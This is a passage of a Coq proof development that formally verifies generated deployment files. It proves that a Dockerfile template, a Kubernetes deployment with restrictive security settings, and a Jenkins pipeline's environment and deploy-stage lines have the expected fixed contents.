      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    rewrite envsubst_deploy_open
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    apply envsubst_deploy_close. }
  assert (omap loop_of (lines (pipeline_text app_name port node_port envs))
          = ["deployment service hpa; do"]) as Hloop.
  { rewrite pipeline_lines by done.
    rewrite loop_head
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries.
    2:{ intros e He. unfold loop_of. apply strip_prefix_starts.
        apply (env_decl_no_keyword "for" " res in " " " "res in "); done || by apply Hid. }
    rewrite loop_stages
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    rewrite loop_build_open
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    rewrite loop_build_close
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    rewrite loop_deploy_open
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    rewrite scan_entries by (intros e He; vm_compute; reflexivity).
    apply loop_deploy_close. }
  assert (Pipeline.environment_value "K8S_DIR"
            (pipeline_text app_name port node_port envs) = Some "k8s") as Hk8s.
  { unfold Pipeline.environment_value. fold k8s_dir_of.
    rewrite pipeline_lines by done.
    rewrite k8s_dir_head
      by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
    done. }
  unfold Pipeline.manifest_reads, Pipeline.loop_resources.
  fold envsubst_of loop_of. rewrite Hsubst, Hk8s, Hloop.
  change (split_on " " (take_until ";" "deployment service hpa; do"))
    with ["deployment"; "service"; "hpa"].
  assert (take_until " "
            ("\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml > /tmp/" +:+ app_name
             +:+ "-${res}.yaml")
          = "\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml") as ->.
  { assert ("\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml > /tmp/" +:+ app_name
            +:+ "-${res}.yaml"
            = ("\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml")
              +:+ String " " ("> /tmp/" +:+ app_name +:+ "-${res}.yaml")) as ->
      by by rewrite !sapp_assoc.
    apply take_until_app. by rewrite !free_of_app, Hblank. }
  assert (replace "\${K8S_DIR}" "k8s" ("\${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml")
          = "k8s/" +:+ app_name +:+ "-${res}.yaml") as ->.
  { assert (∀ X, replace "\${K8S_DIR}" "k8s" ("\${K8S_DIR}/" +:+ X)
                 = "k8s/" +:+ replace_go "\${K8S_DIR}" "k8s" 0 X) as ->
      by (intros X; vm_compute; reflexivity).
    by rewrite (replace_go_free _ _ _ _ "\" "${K8S_DIR}"). }
  assert (∀ res, replace "${res}" res ("k8s/" +:+ app_name +:+ "-${res}.yaml")
                 = "k8s/" +:+ app_name +:+ "-" +:+ res +:+ ".yaml") as Hres.
  { intros res.
    assert (∀ X, replace "${res}" res ("k8s/" +:+ X)
                 = "k8s/" +:+ replace_go "${res}" res 0 X) as ->
      by (intros X; vm_compute; reflexivity).
    rewrite (replace_go_free _ _ _ _ "$" "{res}") by done.
    do 2 f_equal; try (vm_compute; reflexivity). }
  cbn [map]. by rewrite !Hres.
Qed.

End PipelineReaders.

Section BoundPipeline.
Import Os.

Lemma declared_names_names (envs : list env) :
  forallb env_complete envs = true → declared_names envs = map name_of envs.
Proof.
  intros H. pose proof (env_names_names envs H) as H1.
  pose proof (env_names_complete envs H) as H2. congruence.
Qed.

Lemma written_file (st : state) (p c : string) (m : fsmap) :
  resolve (cwd st) p ≠ [] →
  read_file (set_fs (<[resolve (cwd st) p := File c]> m) st) p = Some c.
Proof.
  intros H. unfold read_file. cbn [cwd fs set_fs].
  by rewrite fs_get_stored, lookup_insert_eq.
Qed.

End BoundPipeline.

Section DeployReads.
Import Os.
Variables (app_name : string) (port node_port : jsval) (envs : list env)
          (st : state).
Hypothesis Hname : path_component app_name = true.
Hypothesis Hcomplete : forallb env_complete envs = true.
Hypothesis Hfree : destination_free st app_name.

Let dest : string := destination app_name.
Let P : path := cwd st ++ ["generated"; app_name].
Let K : path := P ++ ["k8s"].
Let bundle := artifacts app_name port node_port envs dest.
Let st1 : state := (generate (request app_name port node_port envs) st).2.

Lemma generated_state :
  st1 = {| cwd := cwd st;
           fs := written (cwd st) bundle (make_dirs K (remove_tree P (fs st)));
           calls := "generate_files" :: "generate" :: calls st |}.
Proof.
  unfold st1.
  by rewrite (generate_ok _ _ _ _ _ _ Hname (env_names_names envs Hcomplete) Hfree).
Qed.

(** After a successful request, a file beside the manifests or beside
    the build file can be created. *)
Lemma generated_lookup_k8s (file : string) :
  path_component file = true →
  file ∉ [app_name +:+ ".yaml"; app_name +:+ "-service.yaml"; app_name +:+ "-hpa.yaml"] →
  fs st1 !! (K ++ [file]) = None.
Proof.
  intros Hfile Hnot. rewrite generated_state. cbn [fs].
  rewrite written_frame.
  - unfold K. rewrite prepared_lookup
      by (rewrite <- app_assoc; by apply prefix_app_r).
    rewrite decide_False; [done|]. intros [_ [E|E]].
    + apply (f_equal length) in E. rewrite !length_app in E. simpl in E. lia.
    + by apply snoc_ne in E.
  - apply Forall_forall. intros w Hw.
    assert (resolve (cwd st) w.1
            ∈ map (λ w : string * string, resolve (cwd st) w.1) bundle)
      as Hin by (apply list_elem_of_fmap; by exists w).
    unfold bundle, dest in Hin. rewrite (bundle_paths _ _ _ _ _ Hname) in Hin.
    fold P K in Hin.
    repeat (apply elem_of_cons in Hin as [->|Hin]);
      [..|by apply elem_of_nil in Hin]; intros E.
    + unfold K in E. rewrite <- app_assoc in E. symmetry in E.
      by apply snoc2_ne_snoc in E.
    + apply app_inv_head in E. injection E as E. apply Hnot. rewrite <- E. by left.
    + apply app_inv_head in E. injection E as E. apply Hnot. rewrite <- E.
      right. by left.
    + apply app_inv_head in E. injection E as E. apply Hnot. rewrite <- E.
      right. right. by left.
Qed.

Lemma generated_k8s_dir : fs st1 !! K = Some Dir.
Proof.
  rewrite generated_state. cbn [fs]. rewrite written_frame.
  - unfold K. rewrite prepared_lookup by by apply prefix_app_r.
    rewrite decide_True; [done|]. split; [apply snoc_stored|by right].
  - pose proof (bundle_off_k8s app_name st Hname port node_port envs 4) as H.
    by rewrite firstn_all2 in H by (simpl; lia).
Qed.

Lemma generated_destination_dir : fs st1 !! P = Some Dir.
Proof.
  rewrite generated_state. cbn [fs]. rewrite written_frame.
  - unfold K. rewrite prepared_lookup by done.
    rewrite decide_True; [done|]. split; [|by left]. unfold P. by destruct (cwd st).
  - eapply Forall_impl; [apply (bundle_below app_name port node_port envs st Hname)|].
    intros w [_ Hne]. exact Hne.
Qed.

Lemma generated_no_jenkinsfile : fs st1 !! (P ++ ["Jenkinsfile"]) = None.
Proof.
  rewrite generated_state. cbn [fs]. rewrite written_frame.
  - unfold K. rewrite prepared_lookup by by apply prefix_app_r.
    rewrite decide_False; [done|]. intros [_ [E|E]].
    + by apply snoc_ne in E.
    + by apply snoc_ne_snoc in E.
  - apply Forall_forall. intros w Hw.
    assert (resolve (cwd st) w.1
            ∈ map (λ w : string * string, resolve (cwd st) w.1) bundle)
      as Hin by (apply list_elem_of_fmap; by exists w).
    unfold bundle, dest in Hin. rewrite (bundle_paths _ _ _ _ _ Hname) in Hin.
    fold P K in Hin.
    repeat (apply elem_of_cons in Hin as [->|Hin]);
      [..|by apply elem_of_nil in Hin]; intros E.
    + by apply snoc_ne_snoc in E.
    + unfold K in E. rewrite <- app_assoc in E. by apply snoc2_ne_snoc in E.
    + unfold K in E. rewrite <- app_assoc in E. by apply snoc2_ne_snoc in E.
    + unfold K in E. rewrite <- app_assoc in E. by apply snoc2_ne_snoc in E.
Qed.

End DeployReads.

Section DeployPaths.
Import Os.

Lemma safe_identifier_free (c : ascii) (s : string) :
  is_label_char c = false → safe_identifier s = true → Text.free_of c s = true.
Proof.
  intros Hc [[_ H]%andb_true_iff _]%andb_true_iff.
  by apply (all_chars_free is_label_char).
Qed.

(** A manifest named relative to the bundle, as the pipeline does, is
    the file of that name in the [k8s] directory. *)
Lemma resolve_relative_manifest (wd : path) (output_dir file : string) :
  path_component file = true →
  resolve wd (path_join output_dir ("k8s/" +:+ file))
  = resolve wd (k8s_path output_dir file).
Proof.
  intros H. change ("k8s/" +:+ file) with ("k8s" +:+ "/" +:+ file).
  rewrite resolve_join_nested, resolve_k8s_path by done. done.
Qed.

Lemma read_file_resolve (st : state) (p p' : string) :
  resolve (cwd st) p = resolve (cwd st) p' → read_file st p = read_file st p'.
Proof. intros E. unfold read_file. by rewrite E. Qed.

Lemma read_file_insert_ne (st : state) (m : fsmap) (Q : path) (e : entry)
    (p : string) :
  resolve (cwd st) p ≠ Q →
  read_file (set_fs (<[Q := e]> m) st) p = read_file (set_fs m st) p.
Proof.
  intros H. unfold read_file. cbn [cwd fs set_fs].
  destruct (resolve (cwd st) p) as [|x r] eqn:E; [done|].
  by rewrite !fs_get_stored, lookup_insert_ne.
Qed.

End DeployPaths.

(** *** The fixed instructions of the build file and the restrictions of the workload *)

Section FixedInstructions.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma strip_prefix_other (kw pre rest : string) :
  negb (starts_with kw pre) && negb (starts_with pre kw) = true →
  strip_prefix kw (pre +:+ rest) = None.
Proof.
  revert pre. induction kw as [|k kw IH]; intros [|p pre]; try done.
  rewrite sapp_cons. simpl. rewrite (Ascii.eqb_sym p k).
  destruct (Ascii.eqb k p); [|done]. apply IH.
Qed.

Lemma dockerfile_operands (kw : string) (names : list string) :
  Forall (λ n, single_line n = true) names →
  other_keyword kw = true →
  let base := lines (Template.dockerfile []) in
  operands kw (Template.dockerfile names)
  = omap (strip_prefix kw) (take 8 base) ++ omap (strip_prefix kw) (drop 12 base).
Proof.
  intros Hnames Hkw. unfold operands.
  rewrite dockerfile_lines by done. cbv zeta.
  generalize (lines (Template.dockerfile [])). intros base.
  unfold other_keyword in Hkw.
  apply andb_true_iff in Hkw as [Hkw H6]. apply andb_true_iff in Hkw as [Hkw H5].
  apply andb_true_iff in Hkw as [Hkw H4]. apply andb_true_iff in Hkw as [Hkw H3].
  apply andb_true_iff in Hkw as [H1 H2].
  assert (∀ rest, strip_prefix kw ("ARG " +:+ rest) = None) as Harg
    by (intros rest; apply strip_prefix_other; by rewrite H1, H2).
  assert (∀ rest, strip_prefix kw ("ENV " +:+ rest) = None) as Henv
    by (intros rest; apply strip_prefix_other; by rewrite H3, H4).
  assert (∀ rest, strip_prefix kw ("    " +:+ rest) = None) as Hcont
    by (intros rest; apply strip_prefix_other; by rewrite H5, H6).
  assert (strip_prefix kw EmptyString = None) as Hempty by by destruct kw.
  rewrite !omap_app.
  rewrite (omap_map_none _ arg_line) by (intros n _; apply Harg).
  assert (omap (strip_prefix kw) (env_lines names) = []) as ->.
  { destruct names as [|n r]; unfold env_lines.
    - cbn [omap list_omap]. change "ENV  \" with ("ENV " +:+ " \").
      by rewrite Henv.
    - cbn [omap list_omap]. rewrite ?sapp_assoc, Henv.
      apply omap_map_none. intros m _. rewrite ?sapp_assoc. apply Hcont. }
  cbn [omap list_omap]. change "ARG PORT" with ("ARG " +:+ "PORT").
  by rewrite Hempty, Harg.
Qed.

End FixedInstructions.

Section FixedParts.
Import Text.

Lemma dockerfile_fixed (names : list string) :
  Forall (λ n, single_line n = true) names →
  let text := Template.dockerfile names in
  operands "FROM " text = ["node:20-slim"]
  ∧ operands "WORKDIR " text = ["/app"]
  ∧ operands "COPY " text = ["package*.json ./"; ". ."]
  ∧ operands "RUN " text = ["npm ci --ignore-scripts && npm cache clean --force"]
  ∧ operands "EXPOSE " text = ["${PORT}"]
  ∧ operands "USER " text = ["node"]
  ∧ operands "CMD " text
    = ["[" +:+ q "node" +:+ ", " +:+ q "dist/main" +:+ ", " +:+ q "--port" +:+ ", "
       +:+ q "${PORT}" +:+ "]"].
Proof.
  intros Hnames text. unfold text.
  repeat split;
    (rewrite dockerfile_operands by (done || (vm_compute; reflexivity)));
    vm_compute; reflexivity.
Qed.

Variables (app_name : string) (port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.

Ltac template_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

Lemma workload_restrictions :
  let dep := Template.deployment app_name port in
  let container := ["spec"; "template"; "spec"; "containers"] in
  Yaml.get (container ++ ["securityContext"; "runAsNonRoot"]) dep = Some "true"
  ∧ Yaml.get (container ++ ["securityContext"; "runAsUser"]) dep = Some "1000"
  ∧ Yaml.get (container ++ ["securityContext"; "allowPrivilegeEscalation"]) dep
    = Some "false"
  ∧ Yaml.get (container ++ ["securityContext"; "readOnlyRootFilesystem"]) dep
    = Some "true"
  ∧ Yaml.get (container ++ ["imagePullPolicy"]) dep = Some "Always"
  ∧ Yaml.get ["spec"; "template"; "spec"; "imagePullSecrets"; "name"] dep
    = Some "harbor-registry-secret".
Proof.
  cbv zeta. unfold Yaml.get, Template.deployment. template_lines. by vm_compute.
Qed.

End FixedParts.

(** *** The requests read the names only *)

Section NamesOnly.

(** The names of the entries are all that the build file takes from
    [envs]. *)
Lemma env_names_ext (envs envs' : list env) :
  map (λ e : env, e !! "name") envs = map (λ e : env, e !! "name") envs' →
  Template.env_names envs = Template.env_names envs'.
Proof.
  revert envs'. induction envs as [|e r IH]; intros [|e' r']; try done.
  cbn [map]. intros [= He Hr]. cbn [Template.env_names].
  unfold Template.subscript. rewrite He. by rewrite (IH r' Hr).
Qed.

End NamesOnly.

(** *** The environment block of the pipeline *)

Section EnvironmentBlock.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Lemma take_until_free (c : ascii) (a b : string) :
  free_of c a = true → take_until c (a +:+ b) = a +:+ take_until c b.
Proof.
  induction a as [|x a IH]; [by rewrite !sapp_nil_l|].
  rewrite !sapp_cons. simpl. intros [Hx Ha]%andb_true_iff.
  apply negb_true_iff in Hx. rewrite Hx. by rewrite IH.
Qed.

Variables (app_name : string) (port node_port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.
Hypothesis Hnode : single_line (py_str node_port) = true.
Hypothesis Qname : free_of "'" app_name = true.
Hypothesis Qport : free_of "'" (py_str port) = true.
Hypothesis Qnode : free_of "'" (py_str node_port) = true.

Ltac template_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

Let value_of (var l : string) : option string :=
  match strip_prefix var (lstrip l) with
  | Some rest => option_map (take_until "'") (strip_prefix "= '" (lstrip rest))
  | None => None
  end.

Ltac head_value :=
  let S := fresh "S" in
  let HS := fresh "HS" in
  intros S HS; destruct S as [|h t]; [done|];
  unfold pipeline_head; template_lines; vm_compute; reflexivity.

Lemma head_value (var : string) (v : string) (envs : list env) :
  forallb binding_ok envs = true →
  (∀ S, S ≠ [] →
     omap (value_of var) (glue (lines (pipeline_head app_name port node_port)) S)
     = v :: omap (value_of var) S) →
  Pipeline.environment_value var (pipeline_text app_name port node_port envs)
  = Some v.
Proof.
  intros Hall H. unfold Pipeline.environment_value. fold (value_of var).
  rewrite pipeline_lines by done. rewrite H; [done|].
  repeat (apply app_nonempty_r || apply glue_nonempty). apply lines_nonempty.
Qed.

Lemma pipeline_environment (envs : list env) :
  forallb binding_ok envs = true →
  let text := pipeline_text app_name port node_port envs in
  Pipeline.environment_value "IMAGE_NAME" text = Some app_name
  ∧ Pipeline.environment_value "DEPLOYMENT_NAME" text = Some app_name
  ∧ Pipeline.environment_value "SERVICE_NAME" text = Some (app_name +:+ "-service")
  ∧ Pipeline.environment_value "HPA_NAME" text = Some (app_name +:+ "-hpa")
  ∧ Pipeline.environment_value "SECRET_NAME" text = Some (app_name +:+ "-secret")
  ∧ Pipeline.environment_value "NAMESPACE" text = Some "pnud-agvm"
  ∧ Pipeline.environment_value "PORT" text = Some (py_str port)
  ∧ Pipeline.environment_value "NODE_PORT" text = Some (py_str node_port).
Proof.
  intros Hall text. unfold text.
  repeat split.
  - replace (Some app_name) with (Some (take_until "'" (app_name +:+ "'")))
      by (by rewrite (take_until_app "'" app_name EmptyString)).
    apply head_value; [done|]. head_value.
  - replace (Some app_name) with (Some (take_until "'" (app_name +:+ "'")))
      by (by rewrite (take_until_app "'" app_name EmptyString)).
    apply head_value; [done|]. head_value.
  - replace (app_name +:+ "-service")
      with (take_until "'" (app_name +:+ "-service'"))
      by (by rewrite take_until_free).
    apply head_value; [done|]. head_value.
  - replace (app_name +:+ "-hpa")
      with (take_until "'" (app_name +:+ "-hpa'"))
      by (by rewrite take_until_free).
    apply head_value; [done|]. head_value.
  - replace (app_name +:+ "-secret")
      with (take_until "'" (app_name +:+ "-secret'"))
      by (by rewrite take_until_free).
    apply head_value; [done|]. head_value.
  - apply head_value; [done|]. head_value.
  - replace (Some (py_str port))
      with (Some (take_until "'" (py_str port +:+ "'")))
      by (by rewrite (take_until_app "'" (py_str port) EmptyString)).
    apply head_value; [done|]. head_value.
  - replace (Some (py_str node_port))
      with (Some (take_until "'" (py_str node_port +:+ "'")))
      by (by rewrite (take_until_app "'" (py_str node_port) EmptyString)).
    apply head_value; [done|]. head_value.
Qed.

End EnvironmentBlock.

(** *** The deploy stage of the pipeline *)

Section DeployStageLines.
Import Text.
Local Arguments Ascii.eqb : simpl never.

Variables (app_name : string) (port node_port : jsval).
Hypothesis Hname : single_line app_name = true.
Hypothesis Hport : single_line (py_str port) = true.
Hypothesis Hnode : single_line (py_str node_port) = true.

Ltac template_lines :=
  repeat ((rewrite lines_app_single by assumption) || rewrite lines_app).

Ltac fixed_text :=
  let S := fresh "S" in
  let HS := fresh "HS" in
  intros S HS; destruct S as [|h t]; [done|];
  unfold pipeline_head, pipeline_stages, Template.jenkins_build_open,
    Template.jenkins_build_close, Template.jenkins_deploy_open,
    Template.jenkins_deploy_close;
  template_lines; vm_compute; reflexivity.

(** A reader of lines over the whole pipeline definition, from what it
    finds in the fixed texts and in the lines of the variables. *)
Lemma pipeline_scan {B} (f : string → option B) (envs : list env)
    (Vh Vs Vo Vc Vd Vz : list B) :
  forallb binding_ok envs = true →
  (∀ S, S ≠ [] →
     omap f (glue (lines (pipeline_head app_name port node_port)) S) = Vh ++ omap f S) →
  (∀ S, S ≠ [] → omap f (glue (lines pipeline_stages) S) = Vs ++ omap f S) →
  (∀ S, S ≠ [] →
     omap f (glue (lines Template.jenkins_build_open) S) = Vo ++ omap f S) →
  (∀ S, S ≠ [] →
     omap f (glue (lines (Template.jenkins_build_close port)) S) = Vc ++ omap f S) →
  (∀ S, S ≠ [] →
     omap f (glue (lines Template.jenkins_deploy_open) S) = Vd ++ omap f S) →
  omap f (lines (Template.jenkins_deploy_close app_name)) = Vz →
  omap f (lines (pipeline_text app_name port node_port envs))
  = Vh ++ omap f (map (λ e, env_decl_line (name_of e)) envs)
    ++ Vs ++ omap f (map (λ e, credential_line (secret_id_of e) (name_of e)) envs)
    ++ Vo ++ omap f (map (λ e, build_arg_line (name_of e)) envs)
    ++ Vc ++ omap f (map (λ e, credential_line (secret_id_of e) (name_of e)) envs)
    ++ Vd ++ omap f (map (λ e, from_literal_line (name_of e)) envs)
    ++ Vz.
Proof.
  intros Hall Hh Hs Ho Hc Hd Hz. rewrite pipeline_lines by done.
  pose proof (lines_nonempty (Template.jenkins_deploy_close app_name)) as Hlast.
  rewrite Hh by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app.
  rewrite Hs by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app.
  rewrite Ho by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app.
  rewrite Hc by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app.
  rewrite Hd by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app. by rewrite Hz.
Qed.


Let credential_of (l : string) : option string :=
  if starts_with "string(credentialsId: " (lstrip l)
  then option_map (take_until "'")
         (strip_prefix "variable: '" (lstrip (drop_until "," l)))
  else None.
Let registry_of (l : string) : option string :=
  option_map (take_until " ")
    (strip_prefix "kubectl create secret docker-registry " (lstrip l)).
Let rollout_of (l : string) : option string :=
  option_map (take_until " ")
    (strip_prefix "kubectl rollout status deployment/" (lstrip l)).
Let pods_of (l : string) : option string :=
  strip_prefix "kubectl get pods -n \${NAMESPACE} -l app=" (lstrip l).

Lemma stage_lines_entries {A} (l : A → string) (xs : list A) (S : list string) :
  (∀ x, x ∈ xs → starts_with "stage('Deploy')" (lstrip (l x)) = false) →
  DeployStage.stage_lines (map l xs ++ S) = DeployStage.stage_lines S.
Proof.
  induction xs as [|x r IH]; [done|]. intros H.
  cbn [map app DeployStage.stage_lines]. rewrite (H x) by by left.
  apply IH. intros y Hy. apply H. by right.
Qed.

Lemma literal_of_from_literal (n : string) :
  identifier n = true →
  DeployStage.literal_of (from_literal_line n) = Some (n, n).
Proof.
  intros Hn. unfold DeployStage.literal_of, from_literal_line.
  change (strip_prefix "--from-literal="
            (lstrip ("                          --from-literal=" +:+ n +:+ "=" +:+
                     q ("\${" +:+ n +:+ "}") +:+ " \")))
    with (Some (n +:+ String "=" (q ("\${" +:+ n +:+ "}") +:+ " \"))).
  cbv iota beta.
  rewrite drop_until_app, take_until_app by by apply identifier_free.
  assert (∀ X, strip_prefix (dq +:+ "\${") (q ("\${" +:+ X) +:+ " \")
               = Some (X +:+ dq +:+ " \")) as ->.
  { intros X. unfold q. rewrite !sapp_assoc. vm_compute. reflexivity. }
  rewrite sapp_assoc.
  change ("}" +:+ dq +:+ " \") with (String "}" (dq +:+ " \")).
  by rewrite take_until_app by by apply identifier_free.
Qed.

Section BoundEntries.
Variable envs : list env.
Hypothesis Hall : forallb binding_ok envs = true.

Lemma envs_identifiers (e : env) :
  e ∈ envs → identifier (name_of e) = true ∧ free_of "," (secret_id_of e) = true.
Proof.
  intros He. rewrite forallb_forall in Hall.
  by apply list_elem_of_In, Hall, binding_ok_inv in He as (_ & ? & _ & ?).
Qed.

(** The secret is created from one literal a variable, in the order of
    [envs]; each key gets the value of the variable of the same name. *)
Lemma pipeline_secret_literals :
  DeployStage.secret_literals (pipeline_text app_name port node_port envs)
  = map (λ e, (name_of e, name_of e)) envs.
Proof.
  unfold DeployStage.secret_literals.
  rewrite (pipeline_scan DeployStage.literal_of envs [] [] [] [] [] []);
    [|done|fixed_text..|].
  2:{ unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity. }
  rewrite omap_map_none.
  2:{ intros e He. unfold DeployStage.literal_of. rewrite strip_prefix_starts; [done|].
      apply (env_decl_no_keyword EmptyString "--from-literal=" "-" "-from-literal=");
        done || by apply envs_identifiers. }
  rewrite omap_map_none by (intros e He; vm_compute; reflexivity).
  rewrite omap_map_none by (intros e He; vm_compute; reflexivity).
  rewrite (omap_map_some _ _ (λ e, (name_of e, name_of e)))
    by (intros e He; by apply literal_of_from_literal, envs_identifiers).
  by rewrite app_nil_r.
Qed.

(** The deploy stage creates the image-pull secret
    [harbor-registry-secret]. *)
Lemma pipeline_registry_secret :
  DeployStage.registry_secret (pipeline_text app_name port node_port envs)
  = Some "harbor-registry-secret".
Proof.
  unfold DeployStage.registry_secret. fold registry_of.
  rewrite (pipeline_scan registry_of envs [] [] [] [] ["harbor-registry-secret"] []);
    [|done|fixed_text..|].
  2:{ unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity. }
  rewrite omap_map_none.
  2:{ intros e He. unfold registry_of. rewrite strip_prefix_starts; [done|].
      apply (env_decl_no_keyword "kubectl" " create secret docker-registry " " "
               "create secret docker-registry ");
        done || by apply envs_identifiers. }
  rewrite omap_map_none by (intros e He; vm_compute; reflexivity).
  rewrite omap_map_none by (intros e He; vm_compute; reflexivity).
  done.
Qed.

Hypothesis Hblank : free_of " " app_name = true.

(** The deploy stage waits for the rollout of the workload named as the
    application, and lists the pods with its label. *)
Lemma pipeline_rollout_target :
  DeployStage.rollout_target (pipeline_text app_name port node_port envs)
  = Some app_name.
Proof.
  unfold DeployStage.rollout_target. fold rollout_of.
  rewrite (pipeline_scan rollout_of envs [] [] [] [] []
             [take_until " " (app_name +:+ " -n \${NAMESPACE} --timeout=120s")]);
    [|done|fixed_text..|].
  2:{ unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity. }
  rewrite omap_map_none.
  2:{ intros e He. unfold rollout_of. rewrite strip_prefix_starts; [done|].
      apply (env_decl_no_keyword "kubectl" " rollout status deployment/" " "
               "rollout status deployment/");
        done || by apply envs_identifiers. }
  rewrite !omap_map_none by (intros e He; vm_compute; reflexivity).
  cbn [app hd_error]. by rewrite take_until_app.
Qed.

Lemma pipeline_pod_label :
  DeployStage.pod_label (pipeline_text app_name port node_port envs)
  = Some app_name.
Proof.
  unfold DeployStage.pod_label. fold pods_of.
  rewrite (pipeline_scan pods_of envs [] [] [] [] [] [app_name]);
    [|done|fixed_text..|].
  2:{ unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity. }
  rewrite omap_map_none.
  2:{ intros e He. unfold pods_of. rewrite strip_prefix_starts; [done|].
      apply (env_decl_no_keyword "kubectl" " get pods -n \${NAMESPACE} -l app=" " "
               "get pods -n \${NAMESPACE} -l app=");
        done || by apply envs_identifiers. }
  rewrite !omap_map_none by (intros e He; vm_compute; reflexivity).
  done.
Qed.

(** The deploy stage binds one credential a variable, in the order of
    [envs], as the build stage does. *)
Lemma pipeline_deploy_credentials :
  DeployStage.credentials (pipeline_text app_name port node_port envs)
  = map name_of envs.
Proof.
  unfold DeployStage.credentials. fold credential_of.
  rewrite pipeline_lines by done.
  pose proof (lines_nonempty (Template.jenkins_deploy_close app_name)) as Hlast.
  assert (∀ S, S ≠ [] →
            omap credential_of
              (DeployStage.stage_lines
                 (glue (lines (pipeline_head app_name port node_port)) S))
            = omap credential_of (DeployStage.stage_lines S)) as Hh by fixed_text.
  assert (∀ S, S ≠ [] →
            omap credential_of (DeployStage.stage_lines (glue (lines pipeline_stages) S))
            = omap credential_of (DeployStage.stage_lines S)) as Hs by fixed_text.
  assert (∀ S, S ≠ [] →
            omap credential_of
              (DeployStage.stage_lines (glue (lines Template.jenkins_build_open) S))
            = omap credential_of (DeployStage.stage_lines S)) as Ho by fixed_text.
  assert (∀ S, S ≠ [] →
            omap credential_of
              (DeployStage.stage_lines
                 (glue (lines (Template.jenkins_build_close port)) S))
            = omap credential_of S) as Hc by fixed_text.
  assert (∀ S, S ≠ [] →
            omap credential_of (glue (lines Template.jenkins_deploy_open) S)
            = omap credential_of S) as Hd by fixed_text.
  assert (omap credential_of (lines (Template.jenkins_deploy_close app_name)) = [])
    as Hz.
  { unfold Template.jenkins_deploy_close. template_lines. vm_compute. reflexivity. }
  rewrite Hh by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite stage_lines_entries.
  2:{ intros e He.
      apply (env_decl_no_keyword "stage" "('Deploy')" "(" "'Deploy')");
        done || by apply envs_identifiers. }
  rewrite Hs by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite stage_lines_entries by (intros e He; vm_compute; reflexivity).
  rewrite Ho by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite stage_lines_entries by (intros e He; vm_compute; reflexivity).
  rewrite Hc by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, (omap_map_some _ _ name_of).
  2:{ intros e He. apply credential_credential; by apply envs_identifiers. }
  rewrite Hd by (repeat (apply app_nonempty_r || apply glue_nonempty); exact Hlast).
  rewrite omap_app, omap_map_none by (intros e He; vm_compute; reflexivity).
  by rewrite Hz, app_nil_r.
Qed.

End BoundEntries.

End DeployStageLines.

(** *** The braces of the pipeline *)

Section Braces.
Import Text.

Lemma brace_balance_app (a b : string) :
  brace_balance (a +:+ b) = (brace_balance a + brace_balance b)%Z.
Proof.
  induction a as [|c a IH]; [done|].
  change (String c a +:+ b) with (String c (a +:+ b)).
  cbn [brace_balance]. rewrite IH. lia.
Qed.

Lemma brace_free_balance (s : string) :
  brace_free s = true → brace_balance s = 0%Z.
Proof.
  unfold brace_free. induction s as [|c s IH]; [done|].
  cbn [free_of brace_balance]. intros H.
  destruct (Ascii.eqb c "{"); [done|].
  destruct (Ascii.eqb c "}"); [by rewrite andb_comm in H|].
  by rewrite IH.
Qed.

Lemma brace_balance_join {A : Type} (g : A → string) (xs : list A) :
  Forall (λ x, brace_balance (g x) = 0%Z) xs →
  brace_balance (join EmptyString (map g xs)) = 0%Z.
Proof.
  unfold join. induction 1 as [|x xs Hx _ IH]; [done|].
  destruct xs as [|y ys]; [done|].
  change (String.concat EmptyString (map g (x :: y :: ys)))
    with (g x +:+ EmptyString +:+ String.concat EmptyString (map g (y :: ys))).
  rewrite !brace_balance_app, Hx, IH. done.
Qed.

Lemma pipeline_text_balance (app_name : string) (port node_port : jsval)
    (envs : list env) :
  brace_free app_name = true →
  brace_free (py_str port) = true →
  brace_free (py_str node_port) = true →
  forallb plain_binding envs = true →
  brace_balance (pipeline_text app_name port node_port envs) = (-5)%Z.
Proof.
  intros Ha%brace_free_balance Hp%brace_free_balance Hn%brace_free_balance Hall.
  assert (Forall (λ e, brace_balance (name_of e) = 0%Z
                       ∧ brace_balance (secret_id_of e) = 0%Z) envs) as He.
  { apply Forall_forall. intros e Hin. rewrite forallb_forall in Hall.
